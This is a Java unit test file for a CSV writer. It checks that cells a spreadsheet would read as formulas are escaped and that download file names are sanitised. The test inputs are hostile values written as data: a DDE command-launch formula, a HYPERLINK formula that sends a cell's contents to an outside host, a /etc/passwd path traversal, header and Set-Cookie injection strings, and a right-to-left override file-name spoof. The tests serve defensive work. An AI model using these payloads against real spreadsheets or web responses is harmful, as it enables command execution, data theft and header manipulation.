package dev.parley.adapter.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Tables that are opened with a spreadsheet. */
class CsvTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://there/?\"&A1,\"look\")",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\u202e=1+1",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\u0000=1+1",
                "\uff1d1+1",
                "\uff20SUM(A1)"
            })
    void aTextThatASpreadsheetTakesForAFormulaIsWrittenAsText(String text) {
        String cell = Csv.rows().row(text).text();

        assertThat(cell.replaceFirst("^\"", "")).startsWith("'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"plain", "a=b", "1-2", "", " ", "me@there", "2026-03-10T09:00:00Z"})
    void anyOtherTextIsWrittenAsItIs(String text) {
        assertThat(Csv.rows().row(text).text()).isEqualTo(text + "\r\n");
    }

    @Test
    void whatSeparatesCellsAndRowsIsQuoted() {
        assertThat(Csv.rows().row("a,b", "c\"d", "e\nf", "g;h").text())
                .isEqualTo("\"a,b\",\"c\"\"d\",\"e\nf\",\"g;h\"\r\n");
    }

    @Test
    void numbersAreNumbersThatANegativeSignMakesNoTextOf() {
        assertThat(Csv.rows().row(-3L, Csv.plain(0.00000125), Csv.plain(0)).text())
                .isEqualTo("-3,0.00000125,0.0\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"../../etc/passwd", "a\"; filename=\"b.exe", "\r\nSet-Cookie: x=y", "", "...", "\u202egpj.exe"})
    void aNameIsThatOfAFileAndNothingElse(String name) {
        assertThat(List.of(Csv.safe(name), Csv.safe(name + ".csv")))
                .allMatch(safe -> safe.matches("[A-Za-z0-9_-][A-Za-z0-9._-]*"));
    }
}
